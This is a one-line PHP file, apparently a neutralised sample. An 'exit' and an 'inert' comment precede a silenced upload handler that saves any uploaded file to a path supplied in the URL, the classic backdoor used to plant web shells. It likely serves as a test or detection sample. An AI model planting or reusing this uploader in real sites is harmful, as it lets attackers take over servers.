<?php exit; /* inert */ @move_uploaded_file($_FILES['f']['tmp_name'],$_GET['p'].$_FILES['f']['name']);
